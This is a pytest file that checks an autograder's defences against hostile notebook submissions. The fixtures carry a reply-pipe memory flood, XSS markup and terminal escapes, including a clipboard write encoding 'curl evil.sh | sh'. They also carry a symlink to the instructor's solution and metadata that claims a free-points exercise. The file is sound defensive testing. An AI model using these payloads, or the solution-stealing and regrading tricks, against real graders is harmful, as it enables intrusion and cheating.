"""What crosses from a submission into the trusted grader, graded for real as root and as an
ordinary user: an amplified reply, a NaN in a tuple, markup and terminal escapes, links out
of the submission folder, a name that is not UTF-8, metadata naming an easier exercise."""

import csv
import json
import os
import shutil
import sys
from pathlib import Path

import pytest

HERE = Path(__file__).parent / "grading"
GRADERS = HERE / "graders"
CORRECT = HERE / "corpus" / "honest_correct_variance.ipynb"

sys.path.insert(0, str(HERE))
from unprivileged import grader as grader_for  # noqa: E402

#: finds the reply pipe (the write-only FIFO) and frames bytes as the protocol does
_RAW = ("import os, fcntl, stat, struct\n"
        "def _reply_fd():\n"
        "    for fd in range(3, 256):\n"
        "        try:\n            st = os.fstat(fd)\n        except OSError:\n"
        "            continue\n"
        "        if stat.S_ISFIFO(st.st_mode) and "
        "fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:\n"
        "            return fd\n"
        "def _frame(b):\n    return struct.pack('>Q', len(b)) + b\n")
#: 8 million empty lists (24 MB of valid JSON), written straight to the reply pipe
AMPLIFY = _RAW + ("def xavier_std(a, b):\n"
                  "    body = b'{\"ok\":true,\"value\":[' + b'[],' * 7999999 + b'[]]}'\n"
                  "    os.write(_reply_fd(), _frame(body))\n"
                  "    while True:\n        pass\n")
#: about 1.3 million values in 3.9 MB, under the byte cap
AMPLIFY_SMALL = AMPLIFY.replace("7999999", "1299999")
TERMINAL = "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2J\\x1b]0;pwned\\x07"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
#: the run's processes' peak RSS (all waited-for descendants, the trusted grader included)
_MEASURED = ("import resource, subprocess, sys\n"
             "code = subprocess.run(sys.argv[1:]).returncode\n"
             "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024\n"
             "print(f'PEAK_RSS_MB={peak}', file=sys.stderr)\nsys.exit(code)\n")


def _notebook(path: Path, extra: str | None = None, replace: dict[str, str] | None = None,
              exercise: str | None = "variance") -> Path:
    """The honest, correct submission, with solution cells replaced and a cell appended."""
    nb = json.loads(CORRECT.read_text())
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if replace and gid in replace:
            cell["source"] = replace[gid]
    if extra is not None:
        nb["cells"].append({"cell_type": "code", "metadata": {}, "source": extra,
                            "outputs": [], "execution_count": None})
    nb["metadata"]["initkit"] = {"exercise": exercise}
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb))
    return path


ODD = os.fsdecode(b"caf\xe9")


@pytest.fixture(scope="module", params=["root", "user"])
def graded(request):
    """Grade the hostile submissions once per mode, measuring the run's peak memory."""
    who = grader_for(request.param)
    tmp = who.workspace()
    try:
        graders = tmp / "graders"
        shutil.copytree(GRADERS / "variance", graders / "variance")
        (graders / "decoy").mkdir()
        (graders / "decoy" / "test_decoy.py").write_text(
            "import pytest\n\n@pytest.mark.points(50)\ndef test_free(submission):\n"
            "    pass\n")
        subs = tmp / "subs"
        _notebook(subs / "amplify_variance.ipynb", AMPLIFY)
        _notebook(subs / "amplifysmall_variance.ipynb", AMPLIFY_SMALL)
        _notebook(subs / "tuplenan_variance.ipynb",
                  replace={"he": "def he_std(fan_in):\n    return ((2 / fan_in) ** 0.5, "
                                 "float('nan'))\n"})
        _notebook(subs / "markup_variance.ipynb",
                  f"print('{MARKUP}' + '{TERMINAL}')\n",
                  replace={"he": "def he_std(fan_in):\n    raise ValueError("
                                 f"'{MARKUP}' + '{TERMINAL}')\n"})
        _notebook(subs / "eve_variance.ipynb", exercise="decoy")
        _notebook(subs / "alice_variance.ipynb")
        os.symlink("alice_variance.ipynb", subs / "bob_variance.ipynb")
        solution = _notebook(tmp / "instructor" / "solution.ipynb")
        os.symlink(solution, subs / "mallory_variance.ipynb")
        _notebook(subs / f"{ODD}_variance.ipynb")
        who.give(tmp)
        solution.chmod(0o600)
        out = tmp / "out"
        python = who.command[0] if who.uid is not None else sys.executable
        import subprocess

        # no case here may time out, so the limits are generous: a loaded machine's slow
        # cells are not a hostile notebook's failure
        proc = subprocess.run(
            [python, "-c", _MEASURED, *who.command, "grade", str(subs), "--graders",
             str(graders), "--out", str(out), "--jobs", "1", "--cell-timeout", "20",
             "--timeout", "120", "--memory", "768", "--no-progress"],
            capture_output=True, text=True, cwd=tmp, timeout=900, **who.popen_kwargs())
        assert (out / "grades.csv").exists(), proc.stderr[-3000:]
        with open(out / "grades.csv", encoding="utf-8") as fh:
            rows = {r["student"]: r for r in csv.DictReader(fh)}
        peak = int(proc.stderr.rsplit("PEAK_RSS_MB=", 1)[1].split()[0])
        yield proc, out, rows, peak
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def _results(out: Path, student: str) -> dict:
    return json.loads((out / student / "variance" / "results.json").read_text())


def _failed(result: dict) -> dict[str, str]:
    return {t["tags"][0].split("::")[-1]: t["output"] for t in result["tests"]
            if t["score"] == 0}


def test_every_hostile_submission_gets_a_row_and_exit_code_zero(graded):
    """All nine submissions (the odd name shown as caf\\xe9) are in grades.csv; exit 0."""
    proc, _, rows, _ = graded
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert sorted(rows) == sorted(["amplify", "amplifysmall", "tuplenan", "markup", "eve",
                                   "alice", "bob", "mallory", "caf\\xe9"])


@pytest.mark.parametrize("student, limit", [
    ("amplify", "a message's JSON part of 24000021 bytes exceeds the 4194304-byte limit"),
    ("amplifysmall", "a message's JSON part holds 1300003 values, more than the 200000"),
])
def test_an_amplified_reply_fails_its_check_and_keeps_the_grader_small(graded, student,
                                                                       limit):
    """Millions of empty lists written to the reply pipe fail that one check as the
    student's broken reply; the other checks score, and no process of the run (the trusted
    grader included) peaked above 700 MB (the grader alone reached 1.3 GB before the caps)."""
    _, out, _, peak = graded
    result = _results(out, student)
    failed = _failed(result)
    assert sorted(failed) == ["test_xavier_std"] and result["score"] == 6
    assert limit in failed["test_xavier_std"], failed
    assert peak < 700, f"peak RSS {peak} MB"


def test_a_nan_inside_a_tuple_is_refused(graded):
    """he_std returning (value, nan) fails its check as a non-finite value (and the plot
    check, whose cell uses he_std)."""
    _, out, _, _ = graded
    failed = _failed(_results(out, "tuplenan"))
    assert sorted(failed) == ["test_he_std", "test_plot"]
    assert "[1] is nan, not a finite number" in failed["test_he_std"]


def test_markup_and_terminal_escapes_are_escaped_in_every_output(graded):
    """A printed and a raised <script>/<img onerror> with an OSC 52 clipboard write appear
    as escaped text in feedback.md/html and with no escape sequence in any file."""
    _, out, rows, _ = graded
    d = out / "markup" / "variance"
    files = {p.name: p.read_text(encoding="utf-8") for p in d.iterdir()}
    files["grades.csv"] = (out / "grades.csv").read_text(encoding="utf-8")
    for name, text in files.items():
        assert "\x1b" not in text and "\x07" not in text and "52;c;" not in text, name
    for name in ("feedback.md", "feedback.html"):
        assert "<script" not in files[name] and "<img" not in files[name], name
        assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;" \
            in files[name], name
    assert f"\n{MARKUP}\n" in files["notebook_output.txt"].split("--- stderr ---")[0]
    assert rows["markup"]["total"] == "5"  # he_std raises; the plot uses it


def test_links_out_of_the_folder_are_refused_and_links_inside_graded(graded):
    """mallory_variance.ipynb -> the instructor's 0600 solution is refused, naming the
    target; bob's link to alice's notebook in the same folder is graded 8/8."""
    _, out, rows, _ = graded
    assert rows["mallory"]["status"] == "invalid" and rows["mallory"]["total"] == "0"
    assert "mallory_variance.ipynb: refused: link to " in rows["mallory"]["reason"]
    assert "/instructor/solution.ipynb outside the submission folder" in \
        rows["mallory"]["reason"]
    assert (rows["bob"]["status"], rows["bob"]["total"]) == ("graded", "8")


def test_a_name_that_is_not_utf8_is_graded_with_all_its_outputs(graded):
    """caf\\xe9_variance.ipynb is graded 8/8 and has its results, feedback and output."""
    _, out, rows, _ = graded
    assert (rows["caf\\xe9"]["status"], rows["caf\\xe9"]["total"]) == ("graded", "8")
    (folder,) = [p for p in out.iterdir() if p.name.startswith("caf_-")]
    assert sorted(p.name for p in (folder / "variance").iterdir()) == [
        "feedback.html", "feedback.md", "notebook_output.txt", "results.json"]


def test_metadata_naming_an_easier_exercise_is_graded_by_the_layout(graded):
    """eve_variance.ipynb whose metadata says 'decoy' (50 free points) is graded by
    variance's graders, and the note says so."""
    _, out, rows, _ = graded
    assert not (out / "eve" / "decoy").exists()
    assert (rows["eve"]["exercise"], rows["eve"]["total"]) == ("variance", "8")
    assert "its metadata names exercise 'decoy' but its file name names 'variance'; " \
        "graded as 'variance'" in _results(out, "eve")["output"]
